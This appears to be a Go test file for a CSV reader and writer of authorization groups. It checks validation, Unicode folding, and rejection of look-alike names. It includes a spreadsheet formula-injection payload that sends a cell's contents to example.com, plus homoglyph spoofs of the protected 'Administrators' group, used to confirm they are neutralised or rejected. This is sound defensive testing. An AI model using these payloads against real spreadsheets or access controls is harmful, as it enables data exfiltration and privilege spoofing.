package policycsv_test

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/rightful-go/rightful/authz"
	"github.com/rightful-go/rightful/authz/policycsv"
)

func TestReadGroups(t *testing.T) {
	tests := []struct {
		name, text string
		want       []authz.GroupInfo
	}{
		{"nothing but the header", "name,description", nil},
		{"Administrators as itself", "name,description\nAdministrators,\n", []authz.GroupInfo{{Name: "Administrators"}}},
		{"a byte order mark, CRLF and quotes", "\uFEFF\"name\",\"description\"\r\n\"Finance\",\"\"\r\n", []authz.GroupInfo{{Name: "Finance"}}},
		{"names that only look alike", "name,description\nFinance,\nFinances,\nFin ance,\n", []authz.GroupInfo{{Name: "Finance"}, {Name: "Finances"}, {Name: "Fin ance"}}},
		{"a description", "name,description\n#1, \"One, \"\"two\"\"\"\n", []authz.GroupInfo{{Name: "#1", Description: `One, "two"`}}},
		{"1,000 code points", "name,description\na," + strings.Repeat("ü", 1000) + "\n", []authz.GroupInfo{{Name: "a", Description: strings.Repeat("ü", 1000)}}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, err := policycsv.ReadGroups(strings.NewReader(test.text))
			if err != nil || !reflect.DeepEqual(got, test.want) {
				t.Errorf("got %q, %v, want %q", got, err, test.want)
			}
		})
	}
}

// TestGroupNamesAreUniqueAfterFolding has pairs that one round of folding or of NFKC leaves
// different.
func TestGroupNamesAreUniqueAfterFolding(t *testing.T) {
	pairs := [][2]string{
		{"\u13A0\u13F0", "\uAB70\u13F8"}, // CHEROKEE LETTERS A and YE, capital and small
		{"finance", "FINANCE"},
		{"Straße", "STRASSE"},
		{"Finance", "Ｆｉｎａｎｃｅ"},
		{"ﬁnance", "FINANCE"},
		{"ΟΔΟΣ", "οδος"},
		{"\u03AB x", "\u03CB X"},    // capital and small upsilon with dialytika
		{"\u1E9E", "ss"},            // capital sharp s
		{"\u2167", "viii"},          // ROMAN NUMERAL EIGHT
		{"\U0001D400dmin", "ADMIN"}, // MATHEMATICAL BOLD CAPITAL A
	}
	for _, pair := range pairs {
		text := "name,description\n" + pair[0] + ",\n" + pair[1] + ",\n"
		_, err := policycsv.ReadGroups(strings.NewReader(text))
		var rejected *authz.Error
		if !errors.As(err, &rejected) || rejected.Count != 1 || rejected.Faults[0].Line != 3 ||
			!strings.Contains(rejected.Faults[0].Detail, "on line 2; case and width of letters make no difference") {
			t.Errorf("%q and %q: got %v", pair[0], pair[1], err)
		}
	}
	for _, name := range []string{"administrators", "ADMINISTRATORS", "Ａdministrators", "Admini\u017Ftrators", "\u0410dministrators"} {
		_, err := policycsv.ReadGroups(strings.NewReader("name,description\n" + name + ",\n"))
		if err == nil || !strings.Contains(err.Error(), "the protected group; write it exactly so") {
			t.Errorf("%q: got %v", name, err)
		}
	}
}

func TestGroupsAreChecked(t *testing.T) {
	tests := []struct{ row, want string }{
		{strings.Repeat("x", 65) + ",", "has 65 characters; at most 64 are allowed"},
		{"\"a,b\",", `the name "a,b" contains a comma`},
		{"a(b,", `the name "a(b" has unbalanced parentheses`},
		{"\"a \",", `the name "a " begins or ends with a space`},
		{"e\u0301,", "is not in Unicode normal form NFC"},
		{"a," + strings.Repeat("ü", 1001), "the description has 1001 characters; at most 1000 are allowed"},
		{"a,b\u00a0c", "the description contains the white space U+00A0"},
	}
	for _, test := range tests {
		_, err := policycsv.ReadGroups(strings.NewReader("name,description\n" + test.row + "\n"))
		if err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%q: got %v", test.row, err)
		}
	}
}

func TestWriteGroups(t *testing.T) {
	var out bytes.Buffer
	err := policycsv.WriteGroups(&out, []authz.GroupInfo{{Name: "Finance", Description: "Books, adjusts"}, {Name: "#1"}})
	if want := "name,description\nFinance,\"Books, adjusts\"\n#1,\n"; err != nil || out.String() != want {
		t.Errorf("got %q, %v, want %q", out.String(), err, want)
	}
	out.Reset()
	formula := authz.GroupInfo{Name: "Finance", Description: `=HYPERLINK("https://example.com/?"&B2,"Finance")`}
	if err := policycsv.WriteGroups(&out, []authz.GroupInfo{formula}); err != nil || strings.Contains(out.String(), ",=") || strings.Contains(out.String(), `,"=`) {
		t.Errorf("a spreadsheet calculates %q, %v", out.String(), err)
	}
	if back, err := policycsv.ReadGroups(&out); err != nil || len(back) != 1 || back[0] != formula {
		t.Errorf("%q comes back as %q, %v", formula, back, err)
	}
	for _, bad := range []authz.GroupInfo{{Name: "finance"}, {Name: ""}, {Name: "a", Description: "a\r"}, {Name: "administrators"}} {
		out.Reset()
		err := policycsv.WriteGroups(&out, []authz.GroupInfo{{Name: "Finance"}, bad})
		if err == nil || !strings.HasPrefix(err.Error(), "line 3 could not be read back: ") || out.Len() > 0 {
			t.Errorf("%q: got %v and wrote %q", bad, err, out.String())
		}
	}
}
